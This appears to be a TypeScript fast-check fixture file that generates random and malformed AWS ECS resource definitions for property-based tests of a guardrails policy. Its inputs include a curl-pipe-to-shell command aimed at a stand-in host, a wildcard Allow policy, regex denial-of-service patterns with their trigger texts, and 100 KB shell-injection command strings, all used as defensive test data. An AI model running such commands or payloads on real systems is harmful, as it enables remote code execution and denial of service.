// Random, malformed and partly unknown resources of every in-scope type, for property-based tests.
import fc from "fast-check";
import { supportedTypes } from "../../policy/model";
import { appImage, unknownString } from "./fixtures";

const sentinels = [
    "1c4a061d-8072-4f0a-a4cb-0ff528b18fe7", "3eeb2bf0-c639-47a8-9e75-3b44932eb421", unknownString,
    "6a19a0b0-7e62-4c92-b797-7f8e31da9cc2", "dd056dcd-154b-4c76-9bd3-c8f88648b5ff",
];

const scalar = fc.oneof(
    fc.constantFrom(...sentinels), fc.constantFrom(null, "", true, false, 0, -1, 3.5),
    fc.string(), fc.integer(), fc.double(), fc.boolean(),
    fc.constantFrom("latest", "nginx:latest", appImage, "awsvpc", "host", "bridge", "FARGATE", "EXTERNAL", "SERVICE", "IMMUTABLE", "MUTABLE", "awslogs", "awsfirelens", "root", "0:0", "*"),
    fc.constantFrom("sh -c 'curl http://x | sh & supervisord'", "[{\"name\":1}]", "{not json", "[null]", "{\"Statement\":{\"Principal\":\"*\",\"Effect\":\"Allow\"}}"),
);

const fieldNames = [
    "name", "image", "essential", "entryPoint", "command", "commands", "environment", "environments", "value", "logConfiguration", "logDriver",
    "linuxParameters", "initProcessEnabled", "stopTimeout", "restartPolicy", "enabled", "firelensConfiguration", "dockerLabels",
    "healthCheck", "privileged", "readonlyRootFilesystem", "user", "memory", "versionConsistency", "securityGroups", "subnets",
    "assignPublicIp", "type", "enable", "rollback", "scanOnPush", "encryptionType", "logging", "executeCommandConfiguration",
    "efsVolumeConfiguration", "transitEncryption", "operatingSystemFamily", "awsLogsConfigurations", "Statement", "ecs-guardrails:exempt",
];

const value: fc.Arbitrary<unknown> = fc.letrec((tie) => ({
    any: fc.oneof({ depthSize: "small", withCrossShrink: true }, scalar, fc.array(tie("any"), { maxLength: 4 }), fc.dictionary(fc.constantFrom(...fieldNames), tie("any"), { maxKeys: 5 })),
})).any;


/** A container definition that is mostly right, with random fields replaced. */
const containerLike = fc.record({
    name: fc.oneof(fc.constantFrom("app", "sidecar"), scalar),
    image: fc.oneof(fc.constantFrom(appImage, "nginx:latest", "nginx", "Bad Image"), scalar),
    essential: fc.oneof(fc.boolean(), scalar),
    entryPoint: fc.oneof(fc.constant(["sh", "-c"]), fc.array(scalar, { maxLength: 3 }), scalar),
    command: fc.oneof(fc.constant(["supervisord & pip install x"]), fc.array(scalar, { maxLength: 3 }), scalar),
    environment: fc.oneof(fc.array(fc.record({ name: fc.oneof(fc.constant("DB_PASSWORD"), scalar), value: fc.oneof(fc.string(), scalar) }), { maxLength: 3 }), scalar),
    logConfiguration: fc.oneof(fc.record({ logDriver: scalar }), scalar),
    linuxParameters: fc.oneof(fc.record({ initProcessEnabled: scalar }), scalar),
    stopTimeout: scalar,
    dockerLabels: fc.oneof(fc.dictionary(fc.constantFrom("ecs-guardrails.sidecar", "x"), scalar), scalar),
}, { requiredKeys: [] });

const containerDefinitions = fc.oneof(
    fc.array(fc.oneof(containerLike, value), { maxLength: 4 }).map((list) => JSON.stringify(list)),
    fc.array(fc.oneof(containerLike, value), { maxLength: 4 }),
    scalar,
);

/** Properties for one resource of a type: random fields, plus shapes the type really has. */
export const resourceProps = (): fc.Arbitrary<unknown> => fc.oneof(
    { weight: 1, arbitrary: value },
    { weight: 4, arbitrary: fc.record({
        containerDefinitions, primaryContainer: fc.oneof(containerLike, scalar), family: scalar, networkMode: scalar, taskRoleArn: scalar,
        executionRoleArn: scalar, requiresCompatibilities: fc.oneof(fc.array(scalar), scalar), volumes: value, runtimePlatform: value,
        networkConfiguration: fc.oneof(fc.record({ securityGroups: fc.oneof(fc.array(scalar), scalar), assignPublicIp: scalar }), scalar),
        networkConfigurations: value, launchType: scalar, deploymentController: value, deploymentCircuitBreaker: value,
        enableEcsManagedTags: scalar, propagateTags: scalar, settings: value, configuration: value, imageTagMutability: scalar,
        imageScanningConfiguration: value, encryptionConfigurations: value, policy: scalar, repository: scalar, service: scalar,
        tags: fc.oneof(fc.dictionary(fc.constantFrom("ecs-guardrails:exempt", "team"), scalar), scalar),
    }, { requiredKeys: [] }) },
);

export const anyResource = fc.constantFrom(...supportedTypes).chain((type) =>
    resourceProps().map((props) => ({ type, name: "r", props })));

export { fc };

/** Patterns that backtrack catastrophically on a backtracking engine, and texts that trigger them. */
export const hostilePattern = fc.constantFrom("(a+)+$", "(a|aa)*b", "(a*)*b", "(x+x+)+y", "(.*a){12}", "^(a|a?)+$", "(\\w+\\s?)*$");
export const hostileText = fc.tuple(fc.constantFrom("a", "x", "ab", "a "), fc.integer({ min: 30, max: 127 }), fc.constantFrom("", "!", "-", "_1"))
    .map(([unit, n, tail]) => unit.repeat(n).slice(0, n) + tail);

/** A command line of about 100 KB: many short commands, one huge word, or deep operators, in exec or shell form. */
export const hugeCommand = fc.tuple(
    fc.constantFrom("curl ", "a & ", "exec ", "nohup ", "'x", "\"$(", "`", "npm --x ", "a; ", "$((", "\\", "eval ", "aws --r ", "super\"visor\"d "),
    fc.constantFrom(["sh", "-c"], ["bash", "-lc"], [] as string[]),
).map(([unit, shell]) => [...shell, unit.repeat(Math.ceil(100_000 / unit.length))]);

/**
 * A value of one of the remediable resources, as aws declares it: containers mostly right with the fields the
 * remediations set (and the ones they must keep: portMappings, secrets, mountPoints) varied.
 */
export const remediableContainer = fc.record({
    name: fc.constantFrom("api", "worker", "log-router"),
    image: fc.constantFrom(appImage, "nginx:1.27.0"),
    essential: fc.constantFrom(true, false, undefined),
    linuxParameters: fc.constantFrom(undefined, null, { initProcessEnabled: true }, { initProcessEnabled: false }, { capabilities: { drop: ["ALL"] } }, { initProcessEnabled: false, tmpfs: [{ containerPath: "/tmp", size: 64 }] }),
    stopTimeout: fc.constantFrom(undefined, null, 2, 30, 60, 120),
    logConfiguration: fc.constantFrom(undefined,
        { logDriver: "awslogs", options: { "awslogs-group": "/ecs/api", "awslogs-region": "us-east-1", "awslogs-stream-prefix": "api" } },
        { logDriver: "awsfirelens", options: { Name: "cloudwatch" } }),
    portMappings: fc.constantFrom(undefined, [{ containerPort: 8080, protocol: "tcp" }], [{ containerPort: 80, hostPort: 80, name: "web", appProtocol: "http" }]),
    secrets: fc.constantFrom(undefined, [{ name: "DB_PASSWORD", valueFrom: "arn:aws:ssm:us-east-1:123456789012:parameter/db" }]),
    mountPoints: fc.constantFrom(undefined, [{ sourceVolume: "data", containerPath: "/data", readOnly: true }]),
    readonlyRootFilesystem: fc.constantFrom(true, false, undefined),
    user: fc.constantFrom("1000", "0", undefined),
    healthCheck: fc.constantFrom(undefined, { command: ["CMD", "/bin/health"], interval: 10 }),
    memory: fc.constantFrom(512, undefined),
}, { requiredKeys: ["name", "image"] });

/**
 * The container list as JSON the way a person or a tool may write it, all read alike by the provider: one list; keys
 * in another case; `logConfiguration` given twice (driver, then options), which the provider merges; or two JSON
 * values, the second merging into the containers of the first by position.
 */
export const containerJson = (containers: Record<string, unknown>[]) => fc.record({
    form: fc.constantFrom("canonical", "cased", "duplicate", "two values"),
    cased: fc.subarray(["name", "image", "stopTimeout", "linuxParameters", "logConfiguration", "portMappings", "secrets"]),
}).map(({ form, cased }) => {
    const render = (entries: [string, unknown][]) => `{${entries.map(([k, v]) => `${JSON.stringify(k)}:${JSON.stringify(v)}`).join(",")}}`;
    const defined = (c: Record<string, unknown>) => Object.entries(c).filter(([, v]) => v !== undefined) as [string, unknown][];
    if (form === "canonical") return JSON.stringify(containers);
    if (form === "cased") {
        const recase = (k: string) => (cased.includes(k) ? (k.length % 2 ? k.toUpperCase() : k[0].toUpperCase() + k.slice(1)) : k);
        return `[${containers.map((c) => render(defined(c).map(([k, v]) => [recase(k), v]))).join(",")}]`;
    }
    if (form === "duplicate") {
        return `[${containers.map((c) => render(defined(c).flatMap(([k, v]): [string, unknown][] => {
            if (k !== "logConfiguration" || !v || typeof v !== "object") return [[k, v]];
            const { logDriver, ...rest } = v as Record<string, unknown>;
            return [[k, { logDriver }], ["LogConfiguration", rest]];
        }))).join(",")}]`;
    }
    const first = containers.map((c) => ({ name: c.name, image: c.image }));
    const second = containers.map((c) => render(defined(c).filter(([k]) => k !== "name" && k !== "image")));
    return `${JSON.stringify(first)}\n[${second.join(",")}]`;
});
